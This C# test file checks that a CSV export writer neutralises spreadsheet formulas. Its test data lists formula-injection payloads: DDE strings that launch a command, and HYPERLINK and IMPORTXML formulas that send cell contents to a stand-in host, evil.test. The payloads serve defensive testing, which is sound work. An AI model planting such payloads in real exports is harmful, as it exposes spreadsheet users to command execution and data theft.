using System.Globalization;
using System.Text;
using Kaolack.Grains.Common;

namespace Kaolack.Grains.Tests.Common;

/// <summary>
/// The one CSV writer (issue 20, item 4): eleven cells of formulas reached a partner's download from the dashboard
/// exports. Every variant a spreadsheet runs comes out as text, and what is not a formula comes out as typed.
/// </summary>
public sealed class CsvTests
{
    public static TheoryData<string> Formulas => new()
    {
        "=HYPERLINK(\"http://evil.test/?d=\"&A1,\"Cliquez\")",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=1+1",
        "+33 6 12 34 56 78",
        "-1+1",
        "@A1",
        "\t=1+1",
        "\r=1+1",
        "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
        "=IMPORTXML(CONCAT(\"http://evil.test/?\", A1), \"//a\")",
    };

    [Theory]
    [MemberData(nameof(Formulas))]
    public void A_cell_a_spreadsheet_would_run_is_written_as_text(string formula)
    {
        var cell = Assert.Single(Parse(Csv.Format([["x", formula]]))[0].Skip(1));

        Assert.Equal("'" + formula, cell);
    }

    [Fact]
    public void Plain_values_are_written_as_typed_separated_by_semicolons_and_quoted_only_when_needed()
    {
        var text = Csv.Format([["Titre", "Montant", "Note"], ["Miel; cire", "-1250,5", "Il a dit \"oui\"\nà midi"], ["Huile d'olive", "42", ""]]);

        Assert.Equal("Titre;Montant;Note\r\n\"Miel; cire\";-1250,5;\"Il a dit \"\"oui\"\"\nà midi\"\r\nHuile d'olive;42;\r\n", text);
    }

    [Fact]
    public void The_file_starts_with_a_byte_order_mark_and_numbers_follow_the_readers_language()
    {
        var bytes = Csv.Encode([["Coopérative", Csv.Number(1250000.5m, CultureInfo.GetCultureInfo("fr-FR"))]]);

        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
        Assert.Equal("Coopérative;1250000,5\r\n", Encoding.UTF8.GetString(bytes[3..]));
        Assert.Equal("1250000.5", Csv.Number(1250000.5m, CultureInfo.GetCultureInfo("en-GB")));
    }

    private static List<string[]> Parse(string text) => CsvReader.Parse(text);
}
